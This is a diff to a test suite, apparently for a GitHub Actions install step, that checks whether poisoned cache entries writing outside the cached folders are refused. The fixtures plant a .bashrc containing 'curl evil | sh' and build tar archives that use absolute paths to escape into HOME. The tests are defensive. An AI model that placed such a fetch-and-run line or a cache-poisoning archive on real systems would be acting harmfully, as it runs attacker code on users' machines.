@@ -278,15 +278,17 @@ describe('a cache nobody can poison', () => {
     expect(installRow(r)).toMatch(/installed by the install script/);
   }, 120_000);
 
-  test('an entry under the exact key holding a path outside the cached folders is refused, unextracted', async () => {
-    const m = machine();
-    const layout = layoutOf(m);
-    const outside = path.join(m.home, '.bashrc');
-    const src = path.join(m.root, 'poison');
-    fs.mkdirSync(src);
-    fs.writeFileSync(path.join(src, '.bashrc'), 'curl evil | sh\n');
-    const archive = path.join(m.root, 'poison.tzst');
-    // Written as @actions/cache writes (-P), but with an absolute name outside every cached folder.
+  /**
+   * An entry saved under the install's exact key by someone who could write the cache: the files
+   * under `src`, archived as @actions/cache archives (-P, absolute names), renamed into m's HOME.
+   */
+  async function saveUnder(
+    m: Machine,
+    layout: ReturnType<typeof layoutOf>,
+    src: string,
+    files: string[]
+  ): Promise<void> {
+    const archive = path.join(m.root, `${path.basename(src)}-${cache.nextId}.tzst`);
     const tar = spawnSync('tar', [
       '-cf',
       archive,
@@ -295,10 +297,10 @@ describe('a cache nobody can poison', () => {
       'zstdmt',
       '--transform',
       `s|^${src}|${m.home}|`,
-      path.join(src, '.bashrc')
+      ...files
     ]);
     expect(tar.status).toBe(0);
-    const blobName = `poison-${Date.now()}/cache.tzst`;
+    const blobName = `planted-${cache.nextId}-${Date.now()}/cache.tzst`;
     await cache.container.getBlockBlobClient(blobName).uploadFile(archive);
     cache.entries.push({
       id: cache.nextId++,
@@ -308,6 +310,17 @@ describe('a cache nobody can poison', () => {
       finalized: true,
       size: fs.statSync(archive).size
     });
+  }
+
+  test('an entry under the exact key holding a path outside the cached folders is refused, unextracted', async () => {
+    const m = machine();
+    const layout = layoutOf(m);
+    const outside = path.join(m.home, '.bashrc');
+    const src = path.join(m.root, 'poison');
+    fs.mkdirSync(src);
+    fs.writeFileSync(path.join(src, '.bashrc'), 'curl evil | sh\n');
+    // Written as @actions/cache writes (-P), but with an absolute name outside every cached folder.
+    await saveUnder(m, layout, src, [path.join(src, '.bashrc')]);
     const r = await step(m);
     expect(r.outputs.outcome).toBe('success');
     expect(fs.existsSync(outside)).toBe(false);
@@ -332,30 +345,11 @@ describe('a cache nobody can poison', () => {
     fs.mkdirSync(path.join(src, '.hermes', 'tools'), { recursive: true });
     fs.writeFileSync(path.join(src, '.hermes', 'tools', 'planted'), 'from the archive\n');
     fs.writeFileSync(path.join(src, '.bashrc'), 'curl evil | sh\n');
-    const archive = path.join(m.root, 'poison.tzst');
     // The good entries first: they reach tar, into staging, before the bad one is seen.
-    const tar = spawnSync('tar', [
-      '-cf',
-      archive,
-      '-P',
-      '--use-compress-program',
-      'zstdmt',
-      '--transform',
-      `s|^${src}|${m.home}|`,
+    await saveUnder(m, layout, src, [
       path.join(src, '.hermes', 'tools'),
       path.join(src, '.bashrc')
     ]);
-    expect(tar.status).toBe(0);
-    const blobName = `late-poison-${Date.now()}/cache.tzst`;
-    await cache.container.getBlockBlobClient(blobName).uploadFile(archive);
-    cache.entries.push({
-      id: cache.nextId++,
-      key: layout.cacheKey,
-      version: cacheVersion(layout.cachePaths, 'zstd-without-long'),
-      blobName,
-      finalized: true,
-      size: fs.statSync(archive).size
-    });
     const r = await step(m);
     expect(r.outputs.outcome).toBe('success');
     expect(annotations(r, 'warning')).toEqual([
